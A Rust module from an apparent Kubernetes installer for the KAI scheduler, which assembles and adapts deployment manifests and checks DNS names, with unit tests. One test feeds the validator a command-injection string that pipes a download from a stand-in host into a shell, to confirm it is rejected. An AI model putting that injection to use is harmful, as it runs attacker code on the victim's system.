//! The objects of an installation, from the manifests in `deploy/`.

use std::collections::BTreeMap;
use std::time::Duration;

use kai_api::names::{self, label, value};
use serde_json::{Value, json};

use crate::cluster::Resource;
use crate::cluster::queue::count;

/// The manifests by the group that they are applied in; definitions come from `kai_api::crd`.
const FILES: [(Group, &str); 16] = [
    (Group::Namespaces, include_str!("../../../../deploy/namespaces.yaml")),
    (Group::PriorityClasses, include_str!("../../../../deploy/priority-classes.yaml")),
    (Group::Rbac, include_str!("../../../../deploy/rbac/scheduler.yaml")),
    (Group::Rbac, include_str!("../../../../deploy/rbac/podgrouper.yaml")),
    (Group::Rbac, include_str!("../../../../deploy/rbac/reservation.yaml")),
    (Group::Rbac, include_str!("../../../../deploy/rbac/scale-adjust.yaml")),
    (Group::Rbac, include_str!("../../../../deploy/rbac/users.yaml")),
    (Group::Policies, include_str!("../../../../deploy/policies/admission.yaml")),
    (Group::Policies, include_str!("../../../../deploy/policies/daemons.yaml")),
    (Group::Policies, include_str!("../../../../deploy/policies/reservation.yaml")),
    (Group::FlowControl, include_str!("../../../../deploy/flow-control.yaml")),
    (Group::Defaults, include_str!("../../../../deploy/defaults.yaml")),
    (Group::Daemons, include_str!("../../../../deploy/scheduler.yaml")),
    (Group::Daemons, include_str!("../../../../deploy/podgrouper.yaml")),
    (Group::Monitoring, include_str!("../../../../deploy/monitoring/monitors.yaml")),
    (Group::Monitoring, include_str!("../../../../deploy/monitoring/rules.yaml")),
];

/// The dashboards, each with its name.
const DASHBOARDS: [(&str, &str); 3] = [
    ("cluster", include_str!("../../../../deploy/monitoring/dashboards/cluster.json")),
    ("pending", include_str!("../../../../deploy/monitoring/dashboards/pending.json")),
    ("queues", include_str!("../../../../deploy/monitoring/dashboards/queues.json")),
];

/// The image in the manifests.
pub(super) const IMAGE: &str = "ghcr.io/kubectl-kai/kai-scheduler:0.1.0";

/// A part of the installation that can be applied alone.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Component {
    /// The definitions of the custom resources.
    Crds,
    /// Accounts and roles of the daemons, roles for people, the namespaces that they are in, and what the API server
    /// refuses by itself.
    Rbac,
    /// Priority classes, the default queues, the default shard, the configuration.
    Queues,
    /// The Deployments.
    Daemons,
    /// Monitors and alerts for Prometheus' operator, dashboards for Grafana; no part of a whole installation.
    Monitoring,
    /// A priority level of the API server for the daemons alone; no part of a whole installation.
    FlowControl,
}

impl Component {
    /// The parts that are installed only where they are asked for, and removed wherever they are.
    pub(super) const OPTIONAL: [Self; 2] = [Self::Monitoring, Self::FlowControl];
}

/// Holds what to install, and how.
#[derive(Clone, Debug)]
pub struct Options {
    /// The parts.
    pub components: Vec<Component>,
    /// Says where the daemons live.
    pub namespace: String,
    /// Image of both daemons.
    pub image: String,
    /// The queue below `default-parent-queue`; empty: no queues are made.
    pub default_queue: String,
    /// Tells whether to wait for the daemons.
    pub wait: bool,
    /// The longest wait.
    pub timeout: Duration,
    /// Tells whether to take over fields that somebody else has set.
    pub force_conflicts: bool,
}

impl Default for Options {
    fn default() -> Self {
        use Component::{Crds, Daemons, Queues, Rbac};
        Self {
            components: vec![Crds, Rbac, Queues, Daemons],
            namespace: names::namespace::SYSTEM.to_owned(),
            image: IMAGE.to_owned(),
            default_queue: names::queue::DEFAULT.to_owned(),
            wait: true,
            timeout: Duration::from_mins(5),
            force_conflicts: false,
        }
    }
}

impl Options {
    /// Everything but the Deployments, for a cluster whose daemons run elsewhere.
    pub fn without_daemons() -> Self {
        let mut options = Self::default();
        options.components.retain(|component| *component != Component::Daemons);
        options
    }
}

/// Objects that are applied together; the groups are applied in this order.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Group {
    /// Namespaces and what limits them.
    Namespaces,
    /// Custom resource definitions.
    Crds,
    /// Priority classes.
    PriorityClasses,
    /// Accounts, roles, bindings.
    Rbac,
    /// Holds what the API server refuses by itself.
    Policies,
    /// Seats of the API server for the daemons.
    FlowControl,
    /// Queues, shard, configuration: made once, then the administrator's.
    Defaults,
    /// Deployments and their Services.
    Daemons,
    /// Monitors, alerts, dashboards.
    Monitoring,
}

impl Group {
    /// All, in the order in which they are applied.
    pub const ALL: [Self; 9] = [
        Self::Namespaces,
        Self::Crds,
        Self::PriorityClasses,
        Self::Rbac,
        Self::Policies,
        Self::FlowControl,
        Self::Defaults,
        Self::Daemons,
        Self::Monitoring,
    ];

    /// Says what it is called.
    pub fn title(self) -> &'static str {
        match self {
            Self::Namespaces => "namespaces",
            Self::Crds => "CRDs",
            Self::PriorityClasses => "priority classes",
            Self::Rbac => "accounts and roles",
            Self::Policies => "policies",
            Self::FlowControl => "flow control",
            Self::Defaults => "queues and settings",
            Self::Daemons => "daemons",
            Self::Monitoring => "monitoring",
        }
    }

    /// Says what it is called in a plan: by names where these say more than a count.
    pub(super) fn names<'a>(self, items: impl Iterator<Item = &'a Item>) -> String {
        let (named, others): (Vec<_>, Vec<_>) = items.partition(|item| item.is_named_in_plans());
        let names: Vec<_> = named.into_iter().map(Item::name).collect();
        let mut kinds: BTreeMap<&str, usize> = BTreeMap::new();
        for item in others {
            *kinds.entry(&item.resource.kind).or_default() += 1;
        }
        let kinds: Vec<_> = kinds.into_iter().map(|(kind, many)| count(many, kind)).collect();
        let beside = if kinds.is_empty() || names.is_empty() { "" } else { " and " };
        match self {
            Self::Crds | Self::Rbac | Self::Policies | Self::FlowControl | Self::Monitoring => {
                self.title().to_owned()
            }
            Self::Namespaces | Self::PriorityClasses | Self::Defaults | Self::Daemons => {
                let (names, kinds) = (names.join(", "), kinds.join(", "));
                format!("{} {names}{beside}{kinds}", self.title())
            }
        }
    }

    fn is_part_of(self, components: &[Component]) -> bool {
        let has = |component| components.contains(&component);
        match self {
            Self::Namespaces => {
                has(Component::Rbac) || has(Component::Daemons) || has(Component::Monitoring)
            }
            Self::Crds => has(Component::Crds),
            Self::Rbac | Self::Policies => has(Component::Rbac),
            Self::PriorityClasses | Self::Defaults => has(Component::Queues),
            Self::Daemons => has(Component::Daemons),
            Self::Monitoring => has(Component::Monitoring),
            Self::FlowControl => has(Component::FlowControl),
        }
    }

    /// Tells whether it is there only where somebody asked for it.
    pub(super) fn is_optional(self) -> bool {
        matches!(self, Self::FlowControl | Self::Monitoring)
    }
}

/// An object of the installation.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct Item {
    /// Holds what it is applied with.
    pub(crate) group: Group,
    /// The object.
    pub(crate) object: Value,
    /// Says where the API has it.
    pub(crate) resource: Resource,
}

impl Item {
    pub(super) fn new(group: Group, object: Value) -> Self {
        let resource = resource(&object).expect("every kind of our manifests is in the table");
        Self { group, object, resource }
    }

    pub(super) fn name(&self) -> &str {
        self.object["metadata"]["name"].as_str().unwrap_or_default()
    }

    pub(super) fn namespace(&self) -> Option<&str> {
        self.object["metadata"]["namespace"].as_str()
    }

    /// As kubectl prints it: `deployment.apps/kai-podgrouper`.
    pub(super) fn title(&self) -> String {
        format!("{}/{}", self.resource.label(), self.name())
    }

    /// Leaves out the flags of a scheduler that the podgrouper has put a shard's settings over, where it did so over these.
    pub(super) fn respect_settings(&mut self, live: &Value) {
        let container = self.object.pointer_mut("/spec/template/spec/containers/0");
        let fields = container.and_then(Value::as_object_mut);
        if let (Some(fields), Some(installed)) = (fields, kai_podgrouper::installed_args(live))
            && fields.get("args") == Some(&json!(installed))
        {
            fields.remove("args");
        }
    }

    /// Says for programs what became of it.
    pub(super) fn reported(&self, result: &str) -> Value {
        json!({
            "apiVersion": self.object["apiVersion"],
            "kind": self.object["kind"],
            "namespace": self.object["metadata"]["namespace"],
            "name": self.object["metadata"]["name"],
            "result": result,
        })
    }

    /// Tells whether it is made where it is missing, and never changed.
    pub(super) fn is_kept(&self) -> bool {
        self.group == Group::Defaults
    }

    fn is_named_in_plans(&self) -> bool {
        !matches!(self.resource.kind.as_str(), "ResourceQuota" | "Service" | "Lease" | "Secret")
    }
}

/// The objects of `options`, in the order in which they are applied.
///
/// # Panics
/// If a manifest of ours is not YAML, or has a kind that is not in the table: a test reads them all.
pub(crate) fn items(options: &Options) -> Vec<Item> {
    let mut items = Vec::new();
    for group in Group::ALL.into_iter().filter(|group| group.is_part_of(&options.components)) {
        if group == Group::Crds {
            let crds = kai_api::crd::all();
            let value = |crd| serde_json::to_value(crd).expect("a definition is JSON");
            items.extend(crds.iter().map(|crd| Item::new(group, value(crd))));
        }
        for (_, text) in FILES.iter().filter(|(of, _)| *of == group) {
            let objects =
                crate::print::yaml::documents("deploy", text).expect("our manifests are YAML");
            items.extend(objects.into_iter().map(|object| Item::new(group, object)));
        }
    }
    if Group::Monitoring.is_part_of(&options.components) {
        let dashboards = DASHBOARDS.iter().map(|(name, text)| dashboard(name, text));
        items.extend(dashboards.map(|object| Item::new(Group::Monitoring, object)));
    }
    items.retain(|item| item.resource.kind != "Queue" || !options.default_queue.is_empty());
    for item in &mut items {
        adapt(&mut item.object, options);
    }
    items
}

/// Wraps a dashboard as Grafana's chart looks for it.
fn dashboard(name: &str, text: &str) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {
            "name": format!("kai-dashboard-{name}"),
            "namespace": names::namespace::SYSTEM,
            "labels": { "grafana_dashboard": "1" },
        },
        "data": { format!("kai-{name}.json"): text },
    })
}

/// The objects of `options` with the groups that they are applied in, in the order in which they are applied.
pub fn objects(options: &Options) -> Vec<(Group, Value)> {
    items(options).into_iter().map(|item| (item.group, item.object)).collect()
}

/// Puts namespace, image, queue name and the installer's labels into an object.
fn adapt(object: &mut Value, options: &Options) {
    let namespace = json!(options.namespace);
    let kind = object["kind"].as_str().unwrap_or_default().to_owned();
    let metadata = &mut object["metadata"];
    metadata["labels"][label::MANAGED_BY] = json!(value::INSTALLER);
    metadata["labels"][label::PART_OF] = json!(value::PRODUCT);
    metadata["labels"][label::VERSION] = json!(env!("CARGO_PKG_VERSION"));
    if metadata["namespace"] == names::namespace::SYSTEM {
        metadata["namespace"] = namespace.clone();
    }
    if kind == "Namespace" && metadata["name"] == names::namespace::SYSTEM {
        metadata["name"] = namespace.clone();
    }
    if kind == "Queue" && metadata["name"] == names::queue::DEFAULT {
        metadata["name"] = json!(options.default_queue);
    }
    if kind == "Config" {
        object["spec"]["namespace"] = namespace.clone();
    }
    for subject in object.get_mut("subjects").and_then(Value::as_array_mut).into_iter().flatten() {
        // Accounts that are not of the system's namespace stay where they are.
        if subject["namespace"] == names::namespace::SYSTEM {
            subject["namespace"] = namespace.clone();
        }
    }
    if kind == "Deployment" {
        adapt_deployment(object, options);
    }
    if kind == "ValidatingAdmissionPolicy" {
        adapt_policy(object, &options.namespace);
    }
    if kind == "FlowSchema" {
        adapt_schema(object, &namespace);
    }
}

/// Puts the namespace of the daemons into what a schema says of their accounts and of their Leases.
fn adapt_schema(object: &mut Value, namespace: &Value) {
    let rules = object.pointer_mut("/spec/rules").and_then(Value::as_array_mut);
    for rule in rules.into_iter().flatten() {
        for subject in rule.get_mut("subjects").and_then(Value::as_array_mut).into_iter().flatten()
        {
            let account = &mut subject["serviceAccount"];
            if account["namespace"] == names::namespace::SYSTEM {
                account["namespace"] = namespace.clone();
            }
        }
        let resources = rule.get_mut("resourceRules").and_then(Value::as_array_mut);
        let lists = resources.into_iter().flatten().filter_map(|one| one.get_mut("namespaces"));
        for name in lists.filter_map(Value::as_array_mut).flatten() {
            if *name == names::namespace::SYSTEM {
                *name = namespace.clone();
            }
        }
    }
}

/// Puts the namespace of the daemons into what a policy says of it and of its accounts.
fn adapt_policy(value: &mut Value, namespace: &str) {
    match value {
        Value::String(text) => {
            let accounts = |namespace: &str| format!("'system:serviceaccounts:{namespace}'");
            let account = |namespace: &str| format!("'system:serviceaccount:{namespace}:");
            *text = text.replace(&accounts(names::namespace::SYSTEM), &accounts(namespace));
            *text = text.replace(&account(names::namespace::SYSTEM), &account(namespace));
        }
        Value::Array(rows) => rows.iter_mut().for_each(|row| adapt_policy(row, namespace)),
        Value::Object(table) => {
            // Namespaces are listed by name there, and nowhere else.
            if let Some(Value::Array(values)) = table.get_mut("values") {
                let ours = values.iter_mut().filter(|value| **value == names::namespace::SYSTEM);
                ours.for_each(|value| *value = json!(namespace));
            }
            table.values_mut().for_each(|value| adapt_policy(value, namespace));
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn adapt_deployment(object: &mut Value, options: &Options) {
    let containers = object.pointer_mut("/spec/template/spec/containers");
    for container in containers.and_then(Value::as_array_mut).into_iter().flatten() {
        container["image"] = json!(options.image);
        for argument in
            container.get_mut("args").and_then(Value::as_array_mut).into_iter().flatten()
        {
            if argument.as_str().is_some_and(|text| text.starts_with("--namespace=")) {
                *argument = json!(format!("--namespace={}", options.namespace));
            }
        }
    }
}

/// The kinds of our manifests, and of what our daemons and KAI's operator make: kind, plural, whether it is in a namespace.
const KINDS: [(&str, &str, bool); 28] = [
    ("ClusterRole", "clusterroles", false),
    ("ClusterRoleBinding", "clusterrolebindings", false),
    ("Config", "configs", false),
    ("ConfigMap", "configmaps", true),
    ("CustomResourceDefinition", "customresourcedefinitions", false),
    ("DaemonSet", "daemonsets", true),
    ("Deployment", "deployments", true),
    ("EndpointSlice", "endpointslices", true),
    ("FlowSchema", "flowschemas", false),
    ("Lease", "leases", true),
    ("MutatingWebhookConfiguration", "mutatingwebhookconfigurations", false),
    ("Namespace", "namespaces", false),
    ("PodDisruptionBudget", "poddisruptionbudgets", true),
    ("PodMonitor", "podmonitors", true),
    ("PriorityClass", "priorityclasses", false),
    ("PriorityLevelConfiguration", "prioritylevelconfigurations", false),
    ("PrometheusRule", "prometheusrules", true),
    ("Queue", "queues", false),
    ("ResourceQuota", "resourcequotas", true),
    ("Role", "roles", true),
    ("RoleBinding", "rolebindings", true),
    ("SchedulingShard", "schedulingshards", false),
    ("Secret", "secrets", true),
    ("Service", "services", true),
    ("ServiceAccount", "serviceaccounts", true),
    ("ValidatingAdmissionPolicy", "validatingadmissionpolicies", false),
    ("ValidatingAdmissionPolicyBinding", "validatingadmissionpolicybindings", false),
    ("ValidatingWebhookConfiguration", "validatingwebhookconfigurations", false),
];

/// Says where the API has an object; `None` for a kind that neither an installation of ours nor one of KAI has.
pub(super) fn resource(object: &Value) -> Option<Resource> {
    let kind = object["kind"].as_str()?;
    let (_, plural, is_namespaced) = KINDS.iter().find(|(known, ..)| *known == kind)?;
    let resource = Resource::new(object["apiVersion"].as_str().unwrap_or_default(), kind, plural);
    Some(if *is_namespaced { resource } else { resource.cluster_wide() })
}

/// Tells whether a text is a DNS label.
pub(super) fn is_name(text: &str) -> bool {
    let is_inner = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-';
    !text.is_empty()
        && text.len() <= 63
        && text.chars().all(is_inner)
        && !text.starts_with('-')
        && !text.ends_with('-')
}

/// Tells whether a text is a DNS subdomain, so that it can stand in a command that is to be typed.
pub(super) fn is_subdomain(text: &str) -> bool {
    text.len() <= 253 && text.split('.').all(is_name)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Those that are asked for included.
    fn every_part() -> Options {
        let mut options = Options::default();
        options.components.extend(Component::OPTIONAL);
        options
    }

    #[test]
    fn a_plan_names_or_counts_every_object() {
        let items = items(&every_part());
        let names = |group: Group| group.names(items.iter().filter(|item| item.group == group));
        for (group, expect) in [
            (
                Group::Namespaces,
                "namespaces kai-scheduler, kai-resource-reservation, kai-scale-adjust and 1 ResourceQuota",
            ),
            (Group::Daemons, "daemons kai-scheduler-default, kai-podgrouper and 5 Services"),
            (Group::Crds, "CRDs"),
            (Group::FlowControl, "flow control"),
        ] {
            assert_eq!(names(group), expect);
        }
    }

    #[test]
    fn every_manifest_is_read_and_adapted() {
        let options = Options {
            namespace: "elsewhere".into(),
            image: "registry/kai:1".into(),
            default_queue: "everybody".into(),
            ..every_part()
        };
        let items = items(&options);
        for item in &items {
            let text = item.object.to_string();
            let title = item.title();
            // The account's, the role's and the scheduler's name stay; the namespace doesn't.
            assert!(!text.contains(r#""namespace":"kai-scheduler""#), "{title}");
            assert!(!text.contains("--namespace=kai-scheduler"), "{title}");
            assert!(!text.contains("serviceaccounts:kai-scheduler"), "{title}");
            assert!(!text.contains("serviceaccount:kai-scheduler:"), "{title}");
            assert!(!text.contains(r#""kube-system","kai-scheduler""#), "{title}");
            assert!(!text.contains(r#""namespaces":["kai-scheduler"]"#), "{title}");
            assert!(!text.contains(IMAGE), "{title}");
            assert_ne!(item.name(), names::queue::DEFAULT);
            assert_eq!(item.object["metadata"]["labels"][label::MANAGED_BY], value::INSTALLER);
            let has_null = item.object.as_object().expect("an object").values().any(Value::is_null);
            assert!(!has_null, "{title}");
            assert_eq!(item.resource.namespaced, item.namespace().is_some(), "{title}");
        }
        let groups: Vec<Group> = items.iter().map(|item| item.group).collect();
        assert!(groups.is_sorted_by_key(|group| Group::ALL.iter().position(|g| g == group)));
    }

    /// A pod that could be root on its node would be whoever may set what reservation pods run.
    #[test]
    fn pods_of_every_namespace_of_ours_are_bounded() {
        let level = |item: &Item| {
            let labels = &item.object["metadata"]["labels"];
            labels["pod-security.kubernetes.io/enforce"].as_str().map(str::to_owned)
        };
        let items = items(&Options::default());
        let namespaces = items.iter().filter(|item| item.resource.kind == "Namespace");
        let levels: Vec<_> = namespaces.map(|item| (item.name().to_owned(), level(item))).collect();
        let expect = [
            ("kai-scheduler", "restricted"),
            ("kai-resource-reservation", "baseline"),
            ("kai-scale-adjust", "restricted"),
        ];
        assert_eq!(levels, expect.map(|(name, level)| (name.into(), Some(level.into()))));
    }

    #[test]
    fn the_seats_of_the_api_server_are_for_the_accounts_of_the_daemons() {
        let items = items(&Options { namespace: "elsewhere".into(), ..every_part() });
        let is_account = |subject: &Value| {
            let account = &subject["serviceAccount"];
            items.iter().any(|item| {
                item.resource.kind == "ServiceAccount"
                    && account["name"].as_str() == Some(item.name())
                    && account["namespace"].as_str() == item.namespace()
            })
        };
        let schemas = items.iter().filter(|item| item.resource.kind == "FlowSchema");
        let subjects =
            schemas.map(|schema| schema.object["spec"]["rules"][0]["subjects"].as_array());
        let subjects: Vec<&Vec<Value>> = subjects.map(|all| all.expect("subjects")).collect();
        assert_eq!(subjects.len(), 2);
        assert!(subjects.iter().all(|all| all.len() == 2), "{subjects:?}");
        assert!(subjects.into_iter().flatten().all(is_account));
    }

    #[test]
    fn parts_can_be_left_out() {
        let kinds = |options: &Options| {
            let mut kinds: Vec<String> =
                items(options).into_iter().map(|item| item.resource.kind).collect();
            kinds.dedup();
            kinds
        };
        assert!(!kinds(&Options::without_daemons()).contains(&"Deployment".to_owned()));
        assert!(!kinds(&Options::default()).contains(&"FlowSchema".to_owned()));
        let crds = Options { components: vec![Component::Crds], ..Options::default() };
        assert_eq!(kinds(&crds), ["CustomResourceDefinition"]);
        let no_queues = Options { default_queue: String::new(), ..Options::default() };
        assert!(!kinds(&no_queues).contains(&"Queue".to_owned()));
    }

    #[test]
    fn names_are_dns_labels() {
        for (text, is_one) in [
            ("a", true),
            ("kai-scheduler", true),
            ("", false),
            ("A", false),
            ("-a", false),
            ("a-", false),
            ("a.b", false),
        ] {
            assert_eq!(is_name(text), is_one, "{text}");
        }
        assert!(!is_name(&"a".repeat(64)));
        for (text, is_one) in [
            ("a", true),
            ("a.b-c", true),
            ("", false),
            ("a..b", false),
            ("x; curl evil|sh #", false),
        ] {
            assert_eq!(is_subdomain(text), is_one, "{text}");
        }
    }
}
